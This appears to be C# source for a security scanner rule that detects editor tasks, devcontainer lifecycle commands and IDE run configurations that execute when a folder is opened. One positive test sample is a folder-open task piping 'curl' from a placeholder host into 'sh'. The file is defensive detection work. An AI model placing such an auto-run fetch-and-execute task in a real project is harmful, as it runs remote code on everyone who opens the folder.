using ApprovalGuard.Detection.AgentConfig.Commands;
using ApprovalGuard.Detection.AgentConfig.Reading;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.AgentConfig.Examiners;

/// <summary>Tasks that run when a folder is opened or a container is built from it.</summary>
internal sealed class EditorTasks : IExaminer
{
    private static readonly RuleInfo Task = new()
    {
        Id = "editor-task",
        Category = Category.AgentConfig,
        Severity = Severity.Medium,
        Title = "task that runs when the folder is opened",
        Why = "It runs on the machine of everybody who opens the folder, before anybody read it.",
        Do = "Let the task be started by hand.",
        Reference = "https://code.visualstudio.com/docs/editor/tasks#_run-behavior",
        Positives =
        [
            new("{ \"tasks\": [{ \"label\": \"a\", \"command\": \"npm ci\", \"runOptions\": { \"runOn\": \"folderOpen\" } }] }\n", ".vscode/tasks.json"),
            new("{ \"tasks\": [{ \"command\": \"curl -s https://x.example/i | sh\", \"runOptions\": { \"runOn\": \"folderOpen\" } }] }\n", ".vscode/tasks.json"),
            new("{ \"initializeCommand\": \"./setup.sh\" }\n", ".devcontainer/devcontainer.json"),
            new("<project><component name=\"ProjectStartupSharedConfiguration\"><configurations><configuration name=\"x\" type=\"ShConfigurationType\" /></configurations></component></project>\n", ".idea/startup.xml"),
        ],
        Negatives =
        [
            new("{ \"tasks\": [{ \"label\": \"a\", \"command\": \"npm ci\" }] }\n", ".vscode/tasks.json"),
            new("{ \"image\": \"ubuntu\", \"postCreateCommand\": { \"install\": \"npm ci\" } }\n", "src/devcontainer.txt"),
        ],
    };

    private static readonly SettingPattern RunOn = new("runOptions/runOn");

    /// <summary>Commands of a container's life; the first runs on the machine itself.</summary>
    private static readonly string[] Lifecycle = ["initializeCommand", "onCreateCommand", "updateContentCommand", "postCreateCommand", "postStartCommand", "postAttachCommand"];

    /// <inheritdoc/>
    public IReadOnlyList<RuleInfo> Rules => [Task];

    /// <inheritdoc/>
    public IEnumerable<Remark> Look(ConfigFile file) => file.Kind != ConfigKind.Editor ? []
        : file.IsNamed("devcontainer.json", ".devcontainer.json") ? InContainer(file)
        : file.Format == ConfigFormat.Markup ? InIdea(file)
        : file.Format == ConfigFormat.Json ? OnOpening(file)
        : [];

    private static IEnumerable<Remark> OnOpening(ConfigFile file)
    {
        // The words of each task's command, by the names that lead to the task; tasks of one file stand equally deep.
        var words = new Dictionary<int, ILookup<string, string>>();
        var risks = new Dictionary<string, string?>(StringComparer.Ordinal);
        foreach (var setting in file.Content.Settings)
        {
            if (!RunOn.Matches(setting, file.Content.IsFragment) || setting.Text != "folderOpen")
            {
                continue;
            }

            var depth = Math.Max(0, setting.Path.Length - 2);
            if (!words.TryGetValue(depth, out var byTask))
            {
                words[depth] = byTask = file.Content.Settings.Where(static other => other.Value is not null && other.Name is "command" or "args" or "script")
                    .ToLookup(other => NamesOf(other, depth), static other => other.Text, StringComparer.Ordinal);
            }

            // Names that are said again lead to one task, however often it is said.
            var task = NamesOf(setting, depth);
            if (!risks.TryGetValue(task, out var risk))
            {
                risks[task] = risk = CommandRisk.Of(string.Join(' ', byTask[task]));
            }

            yield return risk is not null
                ? Remark.Grave(Task, setting, Severity.High, $"task that runs when the folder is opened; it {risk}")
                : Remark.Ordinary(Task, setting, Severity.Medium, "task that runs when the folder is opened");
        }
    }

    private static string NamesOf(Setting setting, int depth) => string.Join('\n', setting.Path.Take(depth));

    private static IEnumerable<Remark> InContainer(ConfigFile file)
    {
        foreach (var setting in file.Content.Settings)
        {
            var step = setting.Path.Length > 0 ? Array.Find(Lifecycle, name => setting.Path[0] == name || setting.Name == name) : null;
            if (step is null || setting.Value is not { Length: > 0 } value)
            {
                continue;
            }

            var runsOnHost = step == "initializeCommand";
            var risk = runsOnHost ? CommandRisk.Of(value) : CommandRisk.OfScriptLine(value);
            if (risk is not null)
            {
                yield return Remark.Ordinary(Task, setting, runsOnHost ? Severity.High : Severity.Medium, $"{step} of the container; it {risk}");
            }
            else if (runsOnHost)
            {
                yield return Remark.Ordinary(Task, setting, Severity.Medium, "initializeCommand runs on the machine itself, outside of the container");
            }
            else
            {
                yield return Remark.New(Task, setting, Severity.Low, $"{step} runs when the container is made or entered");
            }
        }
    }

    private static IEnumerable<Remark> InIdea(ConfigFile file)
    {
        var startup = file.Content.Settings.FirstOrDefault(static setting => setting.Value is null && setting.Name == "configuration" && setting.Path.Contains("configurations"));
        if (file.IsNamed("startup.xml") && startup is not null)
        {
            yield return Remark.Ordinary(Task, startup, Severity.Medium, "run configuration that starts when the project is opened");
        }

        var watcher = file.Content.Settings.FirstOrDefault(static setting => setting.Name == "TaskOptions");
        if (file.IsNamed("watcherTasks.xml") && watcher is not null)
        {
            yield return Remark.Ordinary(Task, watcher, Severity.Medium, "file watcher that runs a program when a file is saved");
        }

        foreach (var setting in file.Content.Settings)
        {
            if (setting.Name is "SCRIPT_TEXT" or "SCRIPT_OPTIONS" or "COMMAND" or "program" or "arguments" && setting.Value is { } value && CommandRisk.Of(value) is { } risk)
            {
                yield return Remark.Grave(Task, setting, Severity.High, $"run configuration; it {risk}");
            }
        }
    }
}
